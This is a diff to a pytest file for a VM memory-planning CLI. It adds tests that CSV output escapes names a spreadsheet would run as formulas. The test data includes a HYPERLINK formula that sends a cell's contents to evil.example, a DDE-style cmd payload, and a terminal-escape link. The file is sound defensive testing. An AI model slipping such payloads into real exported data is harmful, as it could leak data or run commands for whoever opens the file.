@@ -4,16 +4,20 @@ passes them on, and every JSON and XML output stays valid whatever the names."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import xml.etree.ElementTree as ET
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from memplan.cli import app
-from memplan.render.base import safe_line, safe_text
+from memplan.render.base import csv_field, safe_line, safe_text
 
 CLUSTER = "c\x1b[31mred"
 HOST = "h\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"
@@ -133,3 +137,75 @@ def test_other_commands_pass_no_control_characters_on(evil: Path, args: list[str
     assert not UNSAFE.search(result.stdout), UNSAFE.findall(result.stdout)
     if "json" in args:
         json.loads(result.stdout)
+
+
+# --- CSV formula injection (OWASP, CSV Injection) -----------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)", "\t=1+2", "\r=1+2", "a;=1+2"]  # fmt: skip
+"""Names a spreadsheet would run as formulas (the last in a locale that splits on ;)."""
+
+
+def _formula_inventory(tmp_path: Path, collected: str = "") -> Path:
+    vms = "\n".join(f"          - {{name: {json.dumps(n)}, memory: 1GiB}}" for n in FORMULAS)
+    path = tmp_path / f"formulas{collected[:10]}.yaml"
+    path.write_text(
+        f"version: 1\n{f'collected: {collected}' if collected else ''}\nclusters:\n"
+        f"  - name: '=1+1'\n    hosts:\n      - name: '@esx1'\n        memory: 64GiB\n"
+        f"        vms:\n{vms}\n"
+    )
+    return path
+
+
+def _cells(text: str) -> list[list[str]]:
+    """The rows a spreadsheet sees: split on commas, and again on semicolons and tabs
+    outside quotes, as Excel does in locales whose separator they are."""
+    return [row for sep in (",", ";", "\t") for row in csv.reader(io.StringIO(text), delimiter=sep)]
+
+
+def _assert_no_formula(text: str) -> None:
+    cells = [c for row in _cells(text) for c in row]
+    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
+    assert not starts, starts
+
+
+@pytest.mark.parametrize("extra", [[], ["--csv-vms"]])
+def test_check_csv_never_starts_a_cell_with_a_formula(tmp_path: Path, extra: list[str]) -> None:
+    result = CliRunner().invoke(app, ["check", str(_formula_inventory(tmp_path)), "-f", "csv",
+                                      *extra])  # fmt: skip
+    assert result.exit_code == 0, result.output
+    _assert_no_formula(result.stdout)
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    if not extra:
+        assert rows[1][:2] == ["'=1+1", "'@esx1"]
+    else:  # each name whole in its own cell, behind one quote where it would run
+        assert sorted(r[0] for r in rows[1:]) == sorted(
+            n if n[0] == "a" else "'" + n for n in FORMULAS
+        )
+
+
+def test_rightsize_project_and_trend_csv_escape_names_too(tmp_path: Path) -> None:
+    path = _formula_inventory(tmp_path)
+    for args in (["rightsize", str(path)], ["project", str(path), "--horizon", "2m"]):
+        result = CliRunner().invoke(app, [*args, "-f", "csv"])
+        assert result.exit_code == 0, result.output
+        assert "'=1+1" in result.stdout
+        assert "'@esx1" in result.stdout
+        _assert_no_formula(result.stdout)
+    first = _formula_inventory(tmp_path, "2026-01-01T00:00:00")
+    second = _formula_inventory(tmp_path, "2026-03-01T00:00:00")
+    result = CliRunner().invoke(app, ["trend", str(first), str(second), "-f", "csv"])
+    assert result.exit_code == 0, result.output
+    assert "host,'@esx1,'=1+1," in result.stdout
+    _assert_no_formula(result.stdout)
+
+
+@given(st.text())
+def test_csv_field_reads_back_as_one_cell_holding_the_text(text: str) -> None:
+    cell = csv_field(text)
+    rows = list(csv.reader(io.StringIO(cell + ",x\n"), strict=True))
+    assert rows == [[text if not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+                     else "'" + text, "x"]]  # fmt: skip
+    assert csv_field(None) == ""
+    assert csv_field(-3) == "-3"
+    assert csv_field(0.5) == "0.5"
